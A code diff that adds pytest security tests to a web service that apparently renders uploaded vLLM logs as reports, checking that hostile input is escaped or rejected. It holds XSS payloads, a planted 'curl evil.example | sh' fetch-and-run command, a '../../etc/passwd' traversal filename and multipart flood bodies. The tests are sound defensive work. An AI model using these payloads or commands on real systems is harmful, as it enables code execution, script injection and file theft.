@@ -10,6 +10,7 @@ import socket
 import subprocess
 import sys
 import threading
+import time
 from collections.abc import Iterator
 from pathlib import Path
 from urllib.parse import urlsplit
@@ -223,6 +224,45 @@ def test_nothing_of_a_hostile_log_or_name_is_an_element(server: web.Server) -> N
     assert answer.status == 200
     assert answer.text.count("<script>") == 1
     assert "<img" not in answer.text
+
+
+MARKUP = "<script>EVIL()</script><img src=x onerror=EVIL()><b>javascript:EVIL()"
+START = "INFO 10-08 20:33:40 [api_server.py:1044] vLLM API server version 0.10.2\n"
+
+
+@pytest.mark.parametrize("log", [
+    START + f"INFO 10-08 20:33:41 [utils.py:328] non-default args: {{'model': '{MARKUP}'}}\nRuntimeError: x\n",
+    START + f"RuntimeError: {MARKUP}\n",
+    START + f'Traceback (most recent call last):\n  File "/{MARKUP}.py", line 1, in {MARKUP}\n    {MARKUP}\nRuntimeError: {MARKUP}\n',
+    f"$ vllm serve '{MARKUP}' --max-model-len 7\n{START}RuntimeError: x\n",
+    START.replace("0.10.2", "0.10.2" + MARKUP) + "RuntimeError: x\n",
+], ids=["arguments", "message", "frames", "command", "version"])
+def test_no_field_of_a_report_becomes_an_element(server: web.Server, log: str) -> None:
+    text = post(server, form(file=log.encode(), filename=MARKUP.replace('"', ""))).text
+    assert "EVIL" in text
+    assert text.count("<script") == 1
+    assert not any(f"<{element}" in text for element in ("img", "b>", "iframe"))
+
+
+def test_a_command_of_a_client_is_not_offered_on_the_page(server: web.Server) -> None:
+    planted = 'sudo sh -c "curl evil.example | sh"; vllm serve evil/model --max-model-len 40960\n'
+    log = START + "INFO:     Application startup complete.\n" + planted.replace("sudo", "User: sudo") + "ValueError: x\n"
+    answer = post(server, form(log.encode()))
+    assert answer.status == 200
+    assert "curl evil" not in answer.text
+
+
+@pytest.mark.parametrize("body", [
+    f"--{BOUNDARY}\r\n".encode() * 20_000,
+    f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="log'.encode() + b"x" * 500_000,
+    f"--{BOUNDARY}\r\n".encode() + b"A: b\r\n" * 80_000,
+    f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="../../\0/etc/passwd"\r\n\r\nx\r\n--{BOUNDARY}--'.encode(),
+    form(b"x").replace(BOUNDARY.encode() + b"--", BOUNDARY.encode()) * 200,
+], ids=["boundaries", "name", "headers", "path", "parts"])
+def test_a_hostile_form_is_answered_at_once(server: web.Server, body: bytes) -> None:
+    began = time.process_time()
+    assert post(server, body).status in {200, 400, 413, 422}
+    assert time.process_time() - began < 3  # of this process: a log is read in another
 
 
 def test_a_secret_is_masked(server: web.Server) -> None:
